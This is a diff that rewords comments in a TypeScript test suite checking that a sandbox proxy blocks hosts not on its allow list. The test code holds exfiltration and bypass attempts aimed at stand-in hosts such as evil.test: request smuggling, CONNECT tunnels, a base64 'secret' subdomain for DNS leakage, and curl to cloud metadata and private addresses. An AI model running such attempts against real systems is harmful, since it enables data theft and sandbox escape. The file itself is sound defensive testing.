@@ -1,15 +1,15 @@
-/** Code in a sandbox tries to reach hosts that are not on its list: nothing gets out. */
+/** Code in a sandbox cannot reach hosts that are not on its list. */
 import { once } from "node:events";
 import { type Server, type Socket, createServer } from "node:net";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { type TestEngine, TestSandbox, startTestEngine } from "../setup/engine-client.ts";
 
-/** What arrived, by the server: `good` plays hosts of the list, `evil` all others. */
+/** The requests that arrived, by server: `good` serves the hosts of the list, `evil` all others. */
 const arrived = { good: "", evil: "" };
-/** What arrived between one request for `/attempt-<number>` and the next. */
+/** The requests that arrived between one request for `/attempt-<number>` and the next. */
 const arrivedAt: (typeof arrived)[] = [];
 
-/** Responds to each request head with 200, also to a second one in the same connection. */
+/** Responds with 200 to each request head, also to a second one in the same connection. */
 function serve(which: keyof typeof arrived): Server {
   return createServer((socket: Socket) => {
     if (which === "evil") arrived.evil += "connected ";
@@ -72,7 +72,7 @@ beforeEach(() => {
   arrived.good = arrived.evil = "";
 });
 
-/** `ask` sends bytes to the proxy and returns the response; `hello` makes the beginning of TLS. */
+/** Python functions: `ask` sends bytes to the proxy and returns the response; `hello` makes the first message of TLS. */
 const TRIES = `
 import socket, ssl, struct, time
 def ask(*parts):
@@ -109,12 +109,11 @@ LAST = b"0\\r\\n\\r\\n"
 SMUGGLED = get("http://evil.test/smuggled", host="evil.test")
 `;
 
-/** The response to what is not valid HTTP: none, or a refusal. */
+/** The response to invalid HTTP: none, or a refusal. */
 const NOT_HTTP = /^b''|400|403/;
 /** The end of a handshake that names no host of the list. */
 const TLS_ALERT = /\\x15\\x03\\x03/;
 
-/** Runs a Python expression in the sandbox, and returns its output. */
 async function tried(expression: string): Promise<string> {
   const { stdout, stderr } = await sandbox.run(
     `python3 - <<'END'\nexec(open("/tmp/tries.py").read())\nprint(${expression})\nEND`,
@@ -123,7 +122,7 @@ async function tried(expression: string): Promise<string> {
   return stdout;
 }
 
-/** Each attempt as a Python expression, with the expected response. */
+/** Each attempt as a Python expression, with its expected response. */
 const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
   ["another host by HTTP", `ask(get("http://evil.test/x"))`, /403/],
   ["another host by CONNECT", `ask(connect("evil.test:443"), hello("evil.test"))`, /403/],
@@ -285,12 +284,12 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
   ["a name that only a name server would see", `ask(connect("c2VjcmV0.evil.example.com:443"))`, /403/],
 ];
 
-/** The response to an attempt, and what arrived at both servers. */
+/** An attempt's response, and the requests that arrived at both servers. */
 type Outcome = { output: string } & typeof arrived;
 
 let outcomes: Map<string, Outcome> | undefined;
 
-/** Makes all attempts one after the other, in one process, with a request between them that tells them apart. */
+/** Makes all attempts in one process, one after the other. A marked request before each attempt separates them. */
 async function attempted(): Promise<Map<string, Outcome>> {
   const between = (index: number) => `ask(get("http://good.test/attempt-${index}"))`;
   const script = ATTEMPTS.map(([, expression], index) => `${between(index)}\nprint(${expression})`);
@@ -342,7 +341,7 @@ describe("a sandbox with a list of hosts", () => {
       expect(arrived.good).toMatch(/^[A-Z]+ \/ HTTP\/1.1\r\n/);
       expect(arrived.good).toMatch(/\r\ntransfer-encoding: chunked\r\n[^]*?\r\n\r\n2a\r\nGET \/in-body/i);
       arrived.good = "";
-      // The connection does not depend on this header.
+      // A client's Connection header does not remove Content-Length.
       await send("Connection: close, Content-Length\\r\\nContent-Length: 42", inner);
       expect(arrived.good).toMatch(/\r\ncontent-length: 42\r\n[^]*?\r\n\r\nGET \/in-body/i);
     },
@@ -419,7 +418,7 @@ for to in good.test:80 evil.test:443; do printf 'CONNECT %s HTTP/1.1\\r\\nHost: 
       "for host in '[::ffff:7f00:1]' 10.1.2.3 metadata.google.internal; do curl -sS http://$host/ --proxy $http_proxy --noproxy ''; done; curl -sS https://10.1.2.3/ --noproxy ''",
     );
     expect(stdout).toContain("10.1.2.3 is a private address");
-    // Five are named at most.
+    // The result names at most five hosts.
     expect((await refusals()).slice(4)).toEqual([{ host: "::ffff:7f00:1", why: "address", count: 1 }]);
     const { connections: last } = JSON.parse(await (await one.call("GET", "/connections")).text());
     expect(last.slice(-3)).toMatchObject([
